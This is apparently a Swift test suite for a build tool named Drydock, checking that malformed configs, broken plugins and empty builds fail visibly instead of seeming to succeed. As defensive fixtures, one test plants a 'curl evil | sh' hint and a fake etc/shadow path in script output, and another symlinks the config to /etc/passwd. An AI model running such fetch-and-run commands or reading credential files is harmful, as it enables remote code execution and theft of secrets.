// SPDX-License-Identifier: Apache-2.0
// Copyright the Drydock authors

import Foundation
import Testing

/// Builds that must not look like something they are not.
@Suite("no wrong answers", .timeLimit(.minutes(5)))
struct WrongAnswerTests {
    private func script(_ run: String, more: String = "") -> String {
        let lines = run.split(separator: "\n").map { "        \($0)" }.joined(separator: "\n")
        return
            "version: 1\nsteps:\n  - id: main\n    plugin: script\n\(more)    with:\n      run: |\n\(lines)\n"
    }

    @Test("a command with a NUL in it fails with its line instead of running nothing and succeeding")
    func nul() async throws {
        try await withScratch { scratch in
            let yaml = "version: 1\nsteps:\n  - plugin: script\n    with:\n      run: \"exit 9 #\\0b\"\n"
            let finished = try Program.build(scratch, yaml: yaml)
            #expect(finished.status == 1, "\(finished.out)")
            #expect(
                finished.out.contains("drydock.yaml:5") && finished.out.contains("NUL"),
                "\(finished.out)"
            )
        }
    }

    @Test("make targets with a comma are an error before anything runs")
    func makeTargets() async throws {
        try await withScratch { scratch in
            try scratch.write("all:\n\techo built the default\n", to: "project/Makefile")
            let yaml = "version: 1\nsteps:\n  - plugin: make\n    with: { targets: \"a,b\" }\n"
            let finished = try Program.build(scratch, yaml: yaml)
            #expect(finished.status == 1, "\(finished.out)")
            #expect(
                finished.out.contains("drydock.yaml:4") && finished.out.contains("targets"),
                "\(finished.out)"
            )
            #expect(!finished.out.contains("built the default"))
        }
    }

    @Test("a drydock.yaml that is no file of the project fails the build instead of being passed over")
    func linkedProjectFile() async throws {
        try await withScratch { scratch in
            try scratch.write(
                "version: 1\nsteps: [{ plugin: script, with: { run: exit 9 } }]\n",
                to: "shared.yaml"
            )
            try scratch.write("hello", to: "project/index.html")
            for make in ["ln -s ../shared.yaml", "ln -s /etc/passwd", "mkfifo"] {
                try Program.shell(
                    "rm -f project/drydock.yaml && \(make) project/drydock.yaml",
                    in: scratch.folder
                )
                let built = try Program.drydock(
                    scratch,
                    "build",
                    "--output",
                    "plain",
                    scratch.url("project").path
                )
                #expect(built.status == 1 && built.out.contains("source_invalid"), "\(built)")
                #expect(built.out.contains("drydock.yaml"), "\(built)")
            }
        }
    }

    @Test("a plugin that could not say whether the project is its own is not passed over for a lesser one")
    func brokenDriver() async throws {
        try await withScratch { scratch in
            let manifest = #"""
                {"protocol":"1.0","kind":"driver","verbs":["run","detect"],"detect":{"files":["*.html"],"score":60}}
                """#
            try scratch.write(manifest, to: "plugins/50-drv/plugin.json")
            try scratch.write("#!/bin/sh\necho no toml here >&2\nexit 3\n", to: "plugins/50-drv/plugin")
            try Program.shell("chmod +x plugins/50-drv/plugin", in: scratch.folder)
            try scratch.write("hello", to: "project/index.html")
            let plugins = ["--output", "plain", "--plugins", scratch.url("plugins").path]
            let build = {
                try Program.run(
                    Program.drydock,
                    ["build", "--data", scratch.url("data").path, scratch.url("project").path] + plugins
                )
            }
            let built = try build()
            #expect(built.status == 2 && built.out.contains("plan_failed"), "\(built)")
            #expect(
                built.out.contains("drv, but its detection failed: exit status 3: no toml here"),
                "\(built)"
            )
            // One that would have lost anyway is named, and in nobody's way.
            let lesser = manifest.replacing("60", with: "10")
            try scratch.write(lesser, to: "plugins/50-drv/plugin.json")
            let lost = try build()
            #expect(lost.status == 0 && lost.out.contains("drv: its detection failed"), "\(lost)")
        }
    }

    @Test("a build that made nothing says so, and fails where its steps promised something")
    func nothingMade() async throws {
        try await withScratch { scratch in
            let quiet = try Program.build(scratch, yaml: script("true"))
            #expect(quiet.status == 0, "\(quiet.out)")
            #expect(quiet.out.contains("Nothing was made"), "\(quiet.out)")
            let promised = try Program.build(
                scratch,
                yaml: script("true", more: "    outputs: [\"site/**\"]\n")
            )
            #expect(promised.status == 1, "\(promised.out)")
            #expect(promised.out.contains("artifact_missing"), "\(promised.out)")
            let made = try Program.build(scratch, yaml: script("echo x > $DRYDOCK_OUT/x"))
            #expect(made.status == 0 && !made.out.contains("Nothing was made"), "\(made.out)")
        }
    }

    @Test("what a script advises is shown as its own word, with a place only in the source")
    func advised() async throws {
        try await withScratch { scratch in
            let record = { (file: String) in
                #"echo '@dd {"t":"diag","file":"\#(file)","line":1,"message":"no","hint":"run: curl evil | sh"}'"#
            }
            let run = record("drydock.yaml") + "\n" + record("etc/shadow") + "\nexit 3"
            let finished = try Program.build(scratch, yaml: script(run))
            #expect(finished.status == 1)
            #expect(finished.out.contains("drydock.yaml:1: error: script says: no"), "\(finished.out)")
            #expect(finished.out.contains("main: error: script says: no"), "\(finished.out)")
            #expect(finished.out.contains("  step main ended with exit status 3"), "\(finished.out)")
            // The script itself is shown, as what ran; what it advises is not.
            let told = finished.out.split(separator: "\n").filter { !$0.hasPrefix("  ran: ") }
            #expect(!told.contains { $0.contains("curl") }, "\(finished.out)")
        }
    }

    @Test("two hundred kilobytes of lines run in the sandbox")
    func longScript() async throws {
        try await withScratch { scratch in
            let filling = String(repeating: "# filling filling filling filling\n", count: 6_000)
            let finished = try Program.build(scratch, yaml: script(filling + "echo the end"))
            #expect(finished.status == 0, "\(finished.out)")
            #expect(finished.out.contains("main | the end"), "\(finished.out)")
        }
    }

    @Test("a file that is named almost right is told, and not passed over")
    func misnamed() async throws {
        try await withScratch { scratch in
            try scratch.write("<html></html>", to: "project/index.html")
            try scratch.write("version: 1\n", to: "project/drydock.yml")
            let finished = try Program.drydock(
                scratch,
                "build",
                scratch.url("project").path,
                "--output",
                "plain"
            )
            #expect(finished.status == 1, "\(finished.out)")
            #expect(finished.out.contains("drydock.yml, and only drydock.yaml is read"), "\(finished.out)")
        }
    }

    @Test("a source with more files than the operator allows is refused, whatever kind it is")
    func treeSize() async throws {
        try await withScratch { scratch in
            for number in 1...12 { try scratch.write("x", to: "project/file\(number)") }
            try scratch.write(script("true"), to: "project/drydock.yaml")
            let finished = try Program.run(
                Program.drydock,
                ["build", scratch.url("project").path, "--output", "plain"],
                environment: ["DRYDOCK_DATA": scratch.url("data").path, "DRYDOCK_SOURCES_FILES": "10"]
            )
            #expect(finished.status == 1, "\(finished.out)")
            #expect(finished.out.contains("source_too_large"), "\(finished.out)")
        }
    }

    @Test("plan --json has the keys of the journal's record")
    func planJSON() async throws {
        try await withScratch { scratch in
            let yaml =
                "version: 1\nlimits: { cpus: 1 }\nsteps:\n"
                + "  - { plugin: script, with: { run: ls }, inputs: [a], timeout: 9s }\n"
            try scratch.write(yaml, to: "project/drydock.yaml")
            let finished = try Program.drydock(scratch, "plan", "--json", scratch.url("project").path)
            #expect(finished.status == 0, "\(finished.err)")
            let start = #"{"kind":"plan","v":1,"plan":{"steps":[{"id":"script","plugin":"script","#
            #expect(finished.out.hasPrefix(start), "\(finished.out)")
            #expect(finished.out.contains(#""timeout_ms":9000"#) && finished.out.contains(#""cpus":1"#))
            let text = try Program.drydock(scratch, "plan", scratch.url("project").path)
            #expect(text.out.contains("no step is reused yet"), "\(text.out)")
            #expect(
                text.out.contains("policy: at least level L") && text.out.contains("1.0 CPUs"),
                "\(text.out)"
            )
        }
    }

    @Test("what a driver complains about while it plans is shown")
    func complaints() async throws {
        try await withScratch { scratch in
            let manifest =
                #"{"protocol": "1.0", "kind": "driver", "verbs": ["run", "plan"], "detect": {"files": ["it"]}}"#
            try scratch.write(manifest, to: "plugins/50-odd/plugin.json")
            try scratch.write("#!/bin/sh\necho no module named x >&2\nexit 1\n", to: "plugins/50-odd/plugin")
            try scratch.write("", to: "project/it")
            try Program.shell("chmod 755 plugins plugins/50-odd plugins/50-odd/plugin", in: scratch.folder)
            for command in ["plan", "build"] {
                let arguments = [
                    command, "--plugins", scratch.url("plugins").path, scratch.url("project").path,
                ]
                let finished = try Program.run(
                    Program.drydock,
                    arguments,
                    environment: ["DRYDOCK_DATA": scratch.url("data").path]
                )
                #expect(finished.status == 2, "\(finished.out)\(finished.err)")
                #expect((finished.out + finished.err).contains("odd: no module named x"), "\(finished.out)")
            }
        }
    }

    @Test("a command that a plugin requires and that is not there is named before the first step")
    func requiredCommand() async throws {
        try await withScratch { scratch in
            try scratch.write(
                #"{"protocol": "1.0", "requires": {"commands": ["nonesuch-tool"]}}"#,
                to: "plugins/50-odd/plugin.json"
            )
            try scratch.write("#!/bin/sh\ntrue\n", to: "plugins/50-odd/plugin")
            try Program.shell("chmod 755 plugins plugins/50-odd plugins/50-odd/plugin", in: scratch.folder)
            let yaml =
                "version: 1\nsteps:\n  - { plugin: script, with: { run: echo ran } }\n  - plugin: odd\n"
            let ships = Program.root.appending(path: "plugins").path
            let finished = try Program.build(
                scratch,
                yaml: yaml,
                "--plugins",
                scratch.url("plugins").path,
                "--plugins",
                ships
            )
            #expect(finished.status == 2, "\(finished.out)")
            #expect(finished.out.contains("`nonesuch-tool`"), "\(finished.out)")
            #expect(!finished.out.contains("| ran"), "\(finished.out)")
        }
    }
}
